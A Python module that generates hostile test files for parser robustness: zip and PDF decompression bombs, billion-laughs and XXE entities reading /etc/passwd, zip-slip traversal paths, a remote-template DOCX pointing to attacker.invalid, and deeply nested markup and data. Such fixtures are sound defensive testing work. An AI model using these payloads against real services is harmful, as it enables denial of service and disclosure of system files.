"""
Hostile files: the known attacks on parsers, and mutants of harmless files. Nothing is stored; a seed makes them all.

`crafted` gives one file for each attack; `mutants` damages *bases* as transfers, disks and fuzzers do.
"""

from __future__ import annotations

import base64
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from email.message import EmailMessage

File = tuple[str, bytes]
_MEGABYTE = 1 << 20
_LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;">]>'
)
_OUTSIDE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_DOCX_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def hostile_files(bases: Mapping[str, bytes], count: int, seed: int) -> Iterator[File]:
    """Give *count* files: every crafted one, then mutants of *bases*."""
    files = list(crafted())
    yield from files[:count]
    yield from mutants(bases, count - len(files), seed)


def crafted() -> Iterator[File]:
    """Give a file for each known attack."""
    yield from _bombs()
    yield from _containers()
    yield from _markup()
    yield from _pdfs()
    yield from _data()
    yield from _letters()
    yield from _pictures()


def mutants(bases: Mapping[str, bytes], count: int, seed: int) -> Iterator[File]:
    """Damage *bases*, each in turn in another way; the same seed makes the same mutants."""
    chance = random.Random(seed)
    names = sorted(bases)
    for number in range(count):
        name = names[number % len(names)]
        damage = chance.choice(_DAMAGES)
        other = bases[chance.choice(names)]
        yield f"{number:05d}-{damage.__name__.strip('_')}-{name}", damage(bases[name], other, chance)


def _flip(data: bytes, other: bytes, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.choice((1, 1, 3, 16, 64))):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def _truncate(data: bytes, other: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(1, len(data))]


def _overwrite(data: bytes, other: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    filler = chance.choice((b"\x00", b"\xff", b"<", b"{", b"(", b"\\", b"9")) * chance.randrange(1, 400)
    return data[:start] + filler + data[start + len(filler) :]


def _splice(data: bytes, other: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(len(data))] + other[chance.randrange(len(other)) :]


def _repeat(data: bytes, other: bytes, chance: random.Random) -> bytes:
    start = chance.randrange(len(data))
    piece = data[start : start + chance.randrange(1, 200)]
    return data[:start] + piece * chance.choice((2, 50, 2_000)) + data[start:]


def _number(data: bytes, other: bytes, chance: random.Random) -> bytes:
    """Put an extreme value where a length or offset may stand."""
    value = chance.choice((0, 1, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF))
    start = chance.randrange(len(data))
    packed = struct.pack(chance.choice(("<I", ">I")), value)
    return data[:start] + packed + data[start + 4 :]


def _digits(data: bytes, other: bytes, chance: random.Random) -> bytes:
    """Replace one run of digits by a huge one: counts, object numbers, sizes in text formats."""
    places = [place for place, byte in enumerate(data) if 0x30 <= byte <= 0x39]
    if not places:
        return _flip(data, other, chance)
    place = chance.choice(places)
    return data[:place] + chance.choice((b"999999999", b"-1", b"18446744073709551616", b"1e308")) + data[place + 1 :]


_DAMAGES: tuple[Callable[[bytes, bytes, random.Random], bytes], ...] = (
    _flip, _truncate, _overwrite, _splice, _repeat, _number, _digits,
)  # fmt: skip


def _zip(members: Mapping[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _docx(body: str, more: Mapping[str, bytes | str] | None = None, head: str = "") -> bytes:
    document = f"{head}<w:document {_WORD}><w:body>{body}</w:body></w:document>"
    return _zip({"[Content_Types].xml": _DOCX_TYPES, "word/document.xml": document, **(more or {})})


def _office(folder: str, part: str, content: str) -> bytes:
    return _zip({"[Content_Types].xml": _DOCX_TYPES, f"{folder}/{part}": content})


def _odf(kind: str, content: str) -> bytes:
    return _zip({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": content})


def _epub(chapter: str | bytes, name: str = "a.xhtml") -> bytes:
    container = '<container><rootfiles><rootfile full-path="p.opf"/></rootfiles></container>'
    package = (
        f'<package><manifest><item id="a" href="{name}" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="a"/></spine></package>'
    )
    return _zip(
        {"mimetype": "application/epub+zip", "META-INF/container.xml": container, "p.opf": package, name: chapter}
    )


def _bombs() -> Iterator[File]:
    zeros = b" " * (64 * _MEGABYTE)
    yield "ratio.docx", _docx("", {"word/media/a.bin": zeros})
    yield "body.docx", _docx("<w:p><w:r><w:t>" + "a" * (32 * _MEGABYTE) + "</w:t></w:r></w:p>")
    yield "nested.zip", _zip({"a.zip": _zip({"b.zip": _zip({"c.bin": zeros})})})
    yield "nested.epub", _epub(b"<html><body>" + b"<p>a</p>" * 2_000_000 + b"</body></html>")
    yield "flate.pdf", _pdf(b"/Filter/FlateDecode", zlib.compress(b"(a) Tj " * (8 * _MEGABYTE)))
    yield (
        "twice.pdf",
        _pdf(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(b"\x00" * (128 * _MEGABYTE)))),
    )
    yield "cells.ods", _odf("spreadsheet", _ods_cell(1_048_576, 16_384))
    yield "spaces.odt", _odf("text", _odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>'))


def _ods_cell(rows: int, columns: int) -> str:
    cell = f'<table:table-cell table:number-columns-repeated="{columns}"><text:p>a</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'
    return (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        f'<table:table table:name="a">{row}</table:table></office:spreadsheet></office:body></office:document-content>'
    )


def _odt(body: str) -> str:
    return (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
        f"{body}</office:text></office:body></office:document-content>"
    )


def _containers() -> Iterator[File]:
    for number, name in enumerate(("../../etc/passwd", "/etc/passwd", "C:\\a.exe", "a/../../b", "..\\..\\a")):
        yield f"slip{number}.docx", _docx("<w:p/>", {name: b"a"})
    yield "many.docx", _docx("<w:p/>", {f"word/{number}.xml": b"" for number in range(20_000)})
    yield "macro.docm", _docx("<w:p><w:r><w:t>a</w:t></w:r></w:p>", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    template = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        ' Target="https://attacker.invalid/a.dotm" TargetMode="External"/></Relationships>'
    )
    yield "template.docx", _docx("<w:p/>", {"word/_rels/settings.xml.rels": template})
    data = bytearray(_docx("<w:p><w:r><w:t>a</w:t></w:r></w:p>"))
    data[data.rfind(b"PK\x01\x02") + 24 : data.rfind(b"PK\x01\x02") + 28] = struct.pack("<I", 0xFFFFFFF0)
    yield "size.docx", bytes(data)
    yield "overlap.docx", _overlapping()
    yield (
        "loop.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 22 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * 2_000,
    )
    yield "chain.doc", _looping_compound()
    yield "empty.zip", b"PK\x05\x06" + b"\x00" * 18


def _overlapping() -> bytes:
    """Make an archive of which all members are the same bytes (Fifield, "A better zip bomb", WOOT 2019, section 2)."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"a" * _MEGABYTE)
        first = archive.infolist()[0]
        for number in range(3_000):
            again = zipfile.ZipInfo(f"word/{number}.xml")
            again.compress_type, again.CRC = first.compress_type, first.CRC
            again.compress_size, again.file_size = first.compress_size, first.file_size
            again.header_offset = first.header_offset
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    return packed.getvalue()


def _looping_compound() -> bytes:
    """Make an OLE compound file whose allocation table leads in a circle."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(10)
    header += struct.pack("<IIIIIIIII", 1, 1, 0, 4096, 1, 1, 0xFFFFFFFE, 0, 0)
    header = header.ljust(76, b"\x00") + struct.pack("<I", 0) + b"\xff" * (108 * 4)
    table = struct.pack("<128I", *[1] * 128)
    entry = "WordDocument".encode("utf-16-le").ljust(64, b"\x00") + struct.pack("<HBB", 26, 2, 1) + b"\xff" * 12
    return header[:512] + table + (entry.ljust(128, b"\x00") * 4) + table


def _markup() -> Iterator[File]:
    deep = 100_000
    yield "laughs.xml", (_LAUGHS + "<l>&e;&e;&e;&e;</l>").encode()
    yield "outside.xml", (_OUTSIDE + "<x>&f;</x>").encode()
    yield "laughs.docx", _docx("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", head=_LAUGHS)
    yield "outside.docx", _docx("<w:p><w:r><w:t>&f;</w:t></w:r></w:p>", head=_OUTSIDE)
    yield "laughs.xlsx", _office("xl", "workbook.xml", _LAUGHS + "<workbook>&e;</workbook>")
    yield "laughs.pptx", _office("ppt", "presentation.xml", _LAUGHS + "<presentation>&e;</presentation>")
    yield "laughs.odt", _odf("text", _LAUGHS + "<office>&e;</office>")
    yield "laughs.epub", _epub(_LAUGHS + "<html><body>&e;</body></html>")
    yield "slip.epub", _epub("<html/>", "../../etc/passwd")
    yield "deep.html", b"<div>" * deep + b"a" + b"</div>" * deep
    yield "deep.xml", b"<a>" * deep + b"b" + b"</a>" * deep
    yield "deep.docx", _docx("<w:tbl><w:tr><w:tc>" * 5_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 5_000)
    yield "tables.html", b"<table><tr><td>" * 3_000 + b"a"
    yield "span.html", b'<table><tr><td rowspan="2000000000" colspan="2000000000">a</td></tr><tr><td>b</table>'
    yield "attributes.html", b"<p " + b" ".join(b"a%d=1" % number for number in range(200_000)) + b">a</p>"
    yield "deep.md", b"> " * 20_000 + b"a"
    yield "lists.md", b"\n".join(b" " * number + b"- a" for number in range(3_000))
    yield "emphasis.md", b"*a_ " * 100_000
    yield "brackets.md", b"[" * 200_000 + b"](" * 1_000
    yield "table.md", b"|" * 50_000 + b"\n" + b"|-" * 50_000 + b"\n" + b"|a" * 50_000


def _pdf(stream_options: bytes, stream: bytes, *, more: bytes = b"", kids: bytes = b"3 0 R") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids["
        + kids
        + b"]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj\n"
        b"4 0 obj<</Length "
        + str(len(stream)).encode()
        + stream_options
        + b">>stream\n"
        + stream
        + b"\nendstream endobj\n"
        b"5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n" + more + b"trailer<</Root 1 0 R>>\n"
    )


def _pdfs() -> Iterator[File]:
    yield "tree.pdf", _pdf(b"", b"", kids=b"2 0 R 2 0 R")
    yield "count.pdf", _pdf(b"", b"").replace(b"/Count 1", b"/Count 2147483647")
    yield "length.pdf", _pdf(b"", b"BT (a) Tj ET").replace(b"/Length 12", b"/Length 999999999")
    yield "arrays.pdf", _pdf(b"", b"[" * 500_000)
    yield (
        "objects.pdf",
        _pdf(b"", b"BT (a) Tj ET", more=b"".join(b"%d 0 obj<<>>endobj\n" % n for n in range(6, 100_000))),
    )
    yield "graphics.pdf", _pdf(b"", b"q " * 1_000_000)
    yield "text.pdf", _pdf(b"", b"BT /F 1 Tf " + b"(abc) Tj 1 0 Td " * 400_000 + b"ET")
    yield "script.pdf", _pdf(b"", b"BT /F 9 Tf (a) Tj ET", more=b"6 0 obj<</S/JavaScript/JS(while(1){})>>endobj\n")
    yield "header.pdf", b"%PDF-" + b"9" * 100_000
    yield "stub.pdf", b"%PDF-1.4\n%%EOF"


def _data() -> Iterator[File]:
    yield "deep.json", b"[" * 500_000 + b"]" * 500_000
    yield "number.json", b'{"a": ' + b"9" * 1_000_000 + b"}"
    yield "keys.json", json.dumps({f"k{number}": number for number in range(300_000)}).encode()
    yield "wide.csv", b",".join(b"%d" % number for number in range(500_000))
    yield "quote.csv", b'a,"' + b"b" * (8 * _MEGABYTE)
    yield "long.txt", b"a" * (16 * _MEGABYTE)
    yield "lines.txt", b"\n" * (16 * _MEGABYTE) + b"a"
    yield "marks.txt", ("e" + "\u0301" * 2_000_000).encode()
    yield "utf16.txt", b"\xff\xfe" + b"\x00\xd8" * 500_000
    yield "nulls.txt", b"\x00" * 1_000_000 + b"a"
    yield "deep.rtf", b"{\\rtf1" + b"{" * 300_000 + b"a" + b"}" * 300_000
    yield "bin.rtf", b"{\\rtf1\\bin999999999 a}"
    yield "unicode.rtf", b"{\\rtf1" + b"\\u-10179?" * 100_000 + b"}"
    yield "deep.ipynb", b'{"nbformat": 4, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    cell = {"cell_type": "code", "source": ["a"] * 200_000, "outputs": []}
    yield "cells.ipynb", json.dumps({"nbformat": 4, "metadata": {}, "cells": [cell] * 5}).encode()


def _letters() -> Iterator[File]:
    letter = EmailMessage()
    letter["Subject"] = "a"
    letter.set_content("b")
    inner = letter
    for _ in range(40):
        outer = EmailMessage()
        outer["Subject"] = "outer"
        outer.set_content("c")
        outer.add_attachment(inner)
        inner = outer
    yield "nested.eml", inner.as_bytes()
    yield "headers.eml", b"".join(b"X-%d: a\n" % number for number in range(100_000)) + b"Subject: a\n\nb"
    yield (
        "boundary.eml",
        b"Subject: a\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\n" * 50_000,
    )
    yield "subject.eml", b"Subject: " + b"=?utf-8?q?" + b"=41" * 300_000 + b"?=\n\na"
    many = EmailMessage()
    many["Subject"] = "a"
    many.set_content("b")
    for number in range(1_500):
        many.add_attachment(b"a", maintype="application", subtype="x", filename=f"../{number}.exe")
    yield "many.eml", many.as_bytes()
    yield (
        "base64.eml",
        (
            b"Subject: a\nMIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n"
            + base64.b64encode(b"a" * _MEGABYTE)[:-3]
        ),
    )
    yield "letters.mbox", b"From a@b Mon Jan  1 00:00:00 2026\nSubject: a\n\nb\n\n" * 20_000


def _pictures() -> Iterator[File]:
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(head)) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    yield "huge.png", b"\x89PNG\r\n\x1a\n" + chunk
    yield "loop.tiff", b"II*\x00\x08\x00\x00\x00" + struct.pack("<HI", 0, 8)
    yield "stub.gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00"
